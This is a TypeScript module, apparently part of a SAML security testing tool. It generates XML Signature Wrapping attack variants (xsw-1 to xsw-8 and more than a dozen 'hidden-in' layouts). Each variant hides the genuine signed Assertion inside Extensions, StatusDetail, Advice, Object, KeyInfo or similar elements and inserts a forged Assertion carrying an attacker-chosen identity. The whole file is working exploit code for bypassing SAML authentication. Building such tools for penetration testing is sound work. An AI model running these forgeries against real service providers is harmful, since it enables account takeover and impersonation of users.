/**
 * Signature wrapping: the signed element is kept somewhere, so that its Signature still verifies, and a forged one stands
 * where a careless reader looks (Somorovsky and others, "On Breaking SAML", 2012; layouts as SAMLRaider numbers them).
 */
import { ns } from '../../saml/names.ts'
import { forged, newId } from '../forge.ts'
import { first, inner } from '../text/nodes.ts'
import { assemble, partsOf, prefixOf, type ResponseParts, signatureOf, withoutSignature } from '../text/parts.ts'

/** How a forged element differs within a layout. */
export interface Dimensions {
  /** ID of the forged element. */
  id: 'new' | 'same' | 'none'
  /** Whether the forged Assertion carries a verbatim copy of the genuine Signature, or none. */
  signature: 'none' | 'copied'
  /** Whether a wrapping element of our own has the namespace that belongs to it. */
  namespace: 'proper' | 'none'
  /** Which of the two comes first. */
  order: 'forged-first' | 'genuine-first'
}

/** What a layout works on. */
export interface Material {
  parts: ResponseParts
  /** The genuine Assertion, signed or not; without its Signature; its Signature. */
  assertion: string
  bare: string
  signature: string
  identity: string
  dimensions: Dimensions
}

export const materialOf = (xml: string, identity: string, dimensions: Dimensions): Material => {
  const parts = partsOf(xml)
  const [assertion = ''] = parts.assertions
  return {
    parts,
    assertion,
    bare: withoutSignature(assertion),
    signature: signatureOf(assertion),
    identity,
    dimensions,
  }
}

/** Puts content after the Issuer of an element: where its Signature belongs. */
export const afterIssuer = (element: string, content: string): string => {
  const { end } = first(element, 'Issuer')
  return element.slice(0, end) + content + element.slice(end)
}

/** Puts content at the end of an element. */
export const atEnd = (element: string, content: string): string =>
  element.replace(/<\/[^<>]*>$/, (end) => content + end)

/** The forged Assertion, with the copy of the Signature that the dimensions ask for. */
export const evil = ({ bare, signature, identity, dimensions }: Material, withOwn = ''): string => {
  const other = forged(bare, identity, dimensions.id)
  const own = withOwn === '' && dimensions.signature === 'copied' ? signature : withOwn
  return own === '' ? other : afterIssuer(other, own)
}

const pair = ({ dimensions }: Material, forgedOne: string, genuine: string): string[] =>
  dimensions.order === 'forged-first' ? [forgedOne, genuine] : [genuine, forgedOne]

/** A wrapping element: `name` in its namespace, or in none. */
const wrapped = ({ dimensions }: Material, prefix: string, name: string, content: string): string =>
  dimensions.namespace === 'proper'
    ? `<${prefix}${name}>${content}</${prefix}${name}>`
    : `<${name} xmlns="">${content}</${name}>`

const withObject = (material: Material, content: string): string => {
  const { signature } = material
  const p = prefixOf(signature)
  return atEnd(signature, wrapped(material, p, 'Object', content))
}

/** The Response as the SP will see it: with the ID that the dimensions ask for. */
const responseOpen = ({ parts, dimensions }: Material): string =>
  dimensions.id === 'same'
    ? parts.open
    : parts.open.replace(/ ID="[^"]*"/, dimensions.id === 'new' ? ` ID="${newId()}"` : '')

/** The genuine signed Response without its Signature. */
const bareResponse = ({ parts }: Material): string => assemble({ ...parts, prolog: '', signature: '' })

/** In a forged Response its Assertion is new, with or without the copy of the Assertion's own Signature. */
const evilIn = (material: Material): string => evil({ ...material, dimensions: { ...material.dimensions, id: 'new' } })

export const layouts = {
  'xsw-1': (m: Material) =>
    assemble({
      ...m.parts,
      open: responseOpen(m),
      signature: atEnd(m.parts.signature, bareResponse(m)),
      assertions: [evilIn(m)],
    }),
  'xsw-2': (m: Material) =>
    assemble({
      ...m.parts,
      open: responseOpen(m),
      signature: '',
      status: bareResponse(m) + m.parts.signature + m.parts.status,
      assertions: [evilIn(m)],
    }),
  'xsw-3': (m: Material) => assemble({ ...m.parts, assertions: pair(m, evil(m), m.assertion) }),
  'xsw-4': (m: Material) =>
    assemble({
      ...m.parts,
      assertions: [
        m.dimensions.order === 'forged-first' ? atEnd(evil(m), m.assertion) : afterIssuer(evil(m), m.assertion),
      ],
    }),
  'xsw-5': (m: Material) => assemble({ ...m.parts, assertions: pair(m, evil(m, m.signature), m.bare) }),
  'xsw-6': (m: Material) => assemble({ ...m.parts, assertions: [evil(m, atEnd(m.signature, m.bare))] }),
  'xsw-7': (m: Material) =>
    assemble({
      ...m.parts,
      status: wrapped(m, prefixOf(m.parts.open), 'Extensions', evil(m)) + m.parts.status,
      assertions: [m.assertion],
    }),
  'xsw-8': (m: Material) => assemble({ ...m.parts, assertions: [evil(m, withObject(m, m.bare))] }),
  // The signed Assertion is hidden, and the forged one stands in its place.
  'hidden-in-extensions': (m: Material) =>
    assemble({
      ...m.parts,
      status: wrapped(m, prefixOf(m.parts.open), 'Extensions', m.assertion) + m.parts.status,
      assertions: [evil(m)],
    }),
  'hidden-in-status-detail': (m: Material) =>
    assemble({
      ...m.parts,
      status: atEnd(m.parts.status, wrapped(m, prefixOf(m.parts.open), 'StatusDetail', m.assertion)),
      assertions: [evil(m)],
    }),
  'forged-in-status-detail': (m: Material) =>
    assemble({
      ...m.parts,
      status: atEnd(m.parts.status, wrapped(m, prefixOf(m.parts.open), 'StatusDetail', evil(m))),
      assertions: [m.assertion],
    }),
  'hidden-in-advice': (m: Material) => {
    const other = evil(m)
    const { end } = first(other, 'Conditions')
    const advice = wrapped(m, prefixOf(other), 'Advice', m.assertion)
    return assemble({ ...m.parts, assertions: [other.slice(0, end) + advice + other.slice(end)] })
  },
  'hidden-in-confirmation-data': (m: Material) => {
    const other = evil(m)
    const node = first(other, 'SubjectConfirmationData')
    const open = other.slice(node.start, node.openEnd).replace(/\/>$/, '>')
    const filled = `${open}${inner(other, node)}${m.assertion}</${node.name}>`
    return assemble({ ...m.parts, assertions: [other.slice(0, node.start) + filled + other.slice(node.end)] })
  },
  'hidden-in-attribute-value': (m: Material) => {
    const p = prefixOf(m.bare)
    const attribute = `<${p}AttributeStatement><${p}Attribute Name="note"><${p}AttributeValue>${m.assertion}</${p}AttributeValue></${p}Attribute></${p}AttributeStatement>`
    return assemble({ ...m.parts, assertions: [atEnd(evil(m), attribute)] })
  },
  'hidden-in-object': (m: Material) => assemble({ ...m.parts, assertions: [evil(m, looseSignature(m, 'Object'))] }),
  'hidden-in-key-info': (m: Material) => assemble({ ...m.parts, assertions: [evil(m, looseSignature(m, 'KeyInfo'))] }),
  'hidden-in-object-of-response': (m: Material) =>
    assemble({ ...m.parts, signature: looseSignature(m, 'Object'), assertions: [evil(m)] }),
  // Signature of a nested Response over nothing that is used.
  'nested-response': (m: Material) =>
    assemble({
      ...m.parts,
      open: responseOpen(m),
      signature: '',
      assertions: pair(m, evilIn(m), assemble({ ...m.parts, prolog: '' })),
    }),
} satisfies Record<string, (material: Material) => string>

/** A `ds:Signature` that signs nothing, and holds the signed Assertion. */
const looseSignature = ({ assertion, signature }: Material, within: 'Object' | 'KeyInfo'): string => {
  const p = prefixOf(signature) || 'ds:'
  return `<${p}Signature xmlns:${p.replace(':', '')}="${ns.signature}"><${p}${within}>${assertion}</${p}${within}></${p}Signature>`
}

export type LayoutName = keyof typeof layouts
